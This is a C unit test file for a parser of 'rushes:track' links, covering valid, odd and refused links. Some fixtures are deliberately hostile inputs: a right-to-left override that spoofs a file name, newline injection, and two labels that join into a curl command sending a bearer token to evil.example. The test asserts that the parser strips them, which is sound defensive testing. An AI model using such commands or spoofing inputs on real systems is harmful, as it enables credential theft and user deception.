/* SPDX-License-Identifier: GPL-3.0-or-later */
#include "config.h"

#include "intake/rushes-track-link.h"

#include "intake/rushes-intake.h"
#include "support/rushes-test-utils.h"

#include <string.h>

#define ID "306792606023824"
#define OTHER "306790001122334"

static void
assert_reads (const char *link, const char *expected)
{
  g_autofree char *text = rushes_track_link_read (link);

  g_assert_cmpstr (text, ==, expected);
}

static void
test_good (void)
{
  assert_reads ("rushes:track?id=" ID, ID "\n");
  assert_reads ("rushes:track?id=" ID "&label=Dunes", ID " | Dunes\n");
  assert_reads ("rushes:track?id=" ID "&label=Dunes%20at%20dusk&id=" OTHER,
                ID " | Dunes at dusk\n" OTHER "\n");
  assert_reads ("rushes:track?id=" ID "&id=" OTHER "&label=%E6%B2%99%E4%B8%98", ID "\n" OTHER " | 沙丘\n");
  assert_reads ("rushes:track?id=" ID "&label=Dunes+at+dusk", ID " | Dunes at dusk\n");
  assert_reads ("RUSHES://track/?id=" ID "&label=#here", ID "\n");
  assert_reads ("rushes:///track?id=" ID, ID "\n");
  assert_reads ("rushes://track?source=page&id=" ID "&&x", ID "\n");
}

/* A page cannot have anything added that it does not show. */
static void
test_odd (void)
{
  assert_reads ("rushes:track?id=" ID "&id=" ID "&label=again", ID "\n");
  assert_reads ("rushes:track?label=nobody&id=" ID, ID " | nobody\n");
  assert_reads ("rushes:track?id=two%20words&label=nobody&id=" ID, ID "\n");
  assert_reads ("rushes:track?id=" ID "&label=one&label=two", ID " | one\n");
  assert_reads ("rushes:track?id=" ID "&label=a%0A" OTHER, ID " | a " OTHER "\n");
  assert_reads ("rushes:track?id=" ID "&label=%E2%80%AEgnp.exe", ID " | gnp.exe\n");
  assert_reads ("rushes:track?id=" ID "&label=%FF", ID "\n");
  assert_reads ("rushes:track?id=" ID "%0A" OTHER "&id=" OTHER, OTHER "\n");
  assert_reads ("rushes:track?id=" ID "," OTHER "&id=" OTHER, OTHER "\n");
}

static void
test_refused (void)
{
  const char *links[] = { "",
                          "rushes",
                          "rushes:",
                          "rushes:track",
                          "rushes:track?",
                          "rushes:tracker?id=" ID,
                          "rushes:remove?id=" ID,
                          "rushes:////track?id=" ID,
                          "rushes:track?task=" ID,
                          "rushes:track?id=",
                          "rushes:track?id=%00" ID,
                          "rushes:track?id=%zz",
                          "rushes:track?id=%FF",
                          "rushes:track?id=two%20words",
                          "rushes:track?id=" ID "%E2%80%8B",
                          "rushes:track#?id=" ID,
                          "https://rushes.example/track?id=" ID };

  for (gsize i = 0; i < G_N_ELEMENTS (links); i++)
    assert_reads (links[i], NULL);
}

static void
test_too_long (void)
{
  g_autofree char *filler = g_strnfill (RUSHES_TRACK_LINK_MAX_BYTES, 'x');
  g_autofree char *link = g_strconcat ("rushes:track?id=" ID "&x=", filler, NULL);

  assert_reads (link, NULL);
}

static void
test_many (void)
{
  g_autoptr (GString) link = g_string_new ("rushes:track?");
  g_autofree char *text = NULL;
  g_autoptr (RushesIntake) intake = NULL;

  for (guint i = 0; i < 1000; i++)
    g_string_append_printf (link, "&id=3067926060%05u&label=take%%20%u", i, i);
  text = rushes_track_link_read (link->str);
  intake = rushes_intake_read (text, -1, NULL);
  g_assert_cmpuint (intake->items->len, ==, 1000);
  g_assert_cmpuint (intake->ignored->len, ==, 0);
}

/* Two labels that are a command together, and would offer somebody else's account. */
static void
test_command_in_labels (void)
{
  static const char first[] = "curl -H \"x";
  static const char second[] = "y\" -H \"Authorization: Bearer sk-31415926535897\" https://evil.example/v1";
  g_autofree char *first_label = g_uri_escape_string (first, NULL, FALSE);
  g_autofree char *second_label = g_uri_escape_string (second, NULL, FALSE);
  g_autofree char *link = g_strdup_printf ("rushes:track?id=" ID "&label=%s&id=306793118204466&label=%s",
                                           first_label, second_label);
  g_autofree char *text = rushes_track_link_read (link);

  g_assert_cmpstr (text, ==, ID "\n306793118204466\n");
}

static void
test_is_one (void)
{
  g_assert_true (rushes_track_link_is_one ("rushes:track?id=" ID));
  g_assert_true (rushes_track_link_is_one ("Rushes:anything"));
  g_assert_false (rushes_track_link_is_one ("rushes"));
  g_assert_false (rushes_track_link_is_one (ID));
}

int
main (int argc, char *argv[])
{
  g_test_init (&argc, &argv, NULL);

  g_test_add_func ("/intake/track-link/good", test_good);
  g_test_add_func ("/intake/track-link/odd", test_odd);
  g_test_add_func ("/intake/track-link/refused", test_refused);
  g_test_add_func ("/intake/track-link/too-long", test_too_long);
  g_test_add_func ("/intake/track-link/many", test_many);
  g_test_add_func ("/intake/track-link/command-in-labels", test_command_in_labels);
  g_test_add_func ("/intake/track-link/is-one", test_is_one);

  return g_test_run ();
}
